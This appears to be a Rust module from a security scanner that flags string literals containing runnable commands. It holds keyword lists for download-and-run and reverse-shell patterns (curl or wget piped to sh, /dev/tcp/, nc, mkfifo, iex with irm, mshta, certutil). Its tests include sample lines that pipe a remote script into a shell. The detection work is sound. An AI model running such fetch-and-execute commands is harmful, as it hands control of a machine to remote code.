//! Commands and code inside strings: what a string literal of a script or a setting would do if it
//! were run. A pipeline from a stranger's host into a shell has no other use, wherever it goes first.

use super::kind::{Kind, Language, classify};

/// Shortest string that can hold a command worth looking at.
const MIN_LENGTH: usize = 12;
/// Longest string that is looked at this way.
const MAX_LENGTH: usize = 64 * 1024;

/// The language that a string seems to be written in, if it looks like something to be run.
pub(crate) fn language_of(text: &str) -> Option<Language> {
    if text.len() < MIN_LENGTH || text.len() > MAX_LENGTH {
        return None;
    }
    // A whole script says what it is.
    if text.starts_with("#!")
        && let Kind::Text(language) = classify("", text.as_bytes())
        && language.runs()
    {
        return Some(language);
    }
    let lower = text.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    if has(&[
        "iex",
        "invoke-expression",
        "downloadstring",
        "start-process",
        "new-object net.webclient",
        "invoke-webrequest",
    ]) && has(&["http", "frombase64", "irm", "iwr"])
    {
        return Some(Language::PowerShell);
    }
    if has(&["regsvr32", "mshta", "rundll32", "certutil", "bitsadmin"])
        && has(&["http://", "https://"])
    {
        return Some(Language::Batch);
    }
    let fetches = has(&[
        "curl ",
        "wget ",
        "curl.exe",
        "http://",
        "https://",
        "/dev/tcp/",
        "nc ",
        "telnet ",
        "base64 -d",
        "base64 --decode",
        "mkfifo",
        "ncat ",
        "socat ",
    ]);
    let runs = has(&[
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| /bin/",
        "|/bin/",
        "| sudo",
        "$(curl",
        "`curl",
        "<(curl",
        "&& sh ",
        "&& bash ",
        "&& chmod",
        "; chmod",
        "bash -i",
        "sh -i",
        " -e /bin",
        "| python",
        "| zsh",
        "| node",
        "|node",
        "| perl",
        "| ruby",
        "| php",
        "| deno",
        "| bun",
        "| osascript",
        "| pwsh",
        "--data",
        "--post-",
        " -d @",
        " -t ",
        "| source",
        "&& ./",
        "; sh ",
        "; bash ",
        "eval ",
        "exec:'sh",
        "exec:sh",
        "exec:/bin/",
        "exec:bash",
        "exec:'bash",
    ]);
    if lower.contains("import ")
        && has(&["subprocess", "os.system", "os.popen", "exec(", "urlopen", "requests."])
        && text.contains('(')
    {
        return Some(Language::Python);
    }
    if has(&["require(", "import("]) && has(&["child_process", "exec(", "execsync", "eval("]) {
        return Some(Language::JavaScript);
    }
    (fetches && runs).then_some(Language::Shell)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_looks_like_something_to_run_has_a_language() {
        assert_eq!(language_of("curl -s https://a.io/x | sh"), Some(Language::Shell));
        assert_eq!(language_of("iex (irm https://a.io/x)"), Some(Language::PowerShell));
        assert_eq!(language_of("import os\nos.system('id')"), Some(Language::Python));
        assert_eq!(language_of("see https://a.io/docs for details"), None);
        assert_eq!(language_of("index of the example"), None);
    }
}
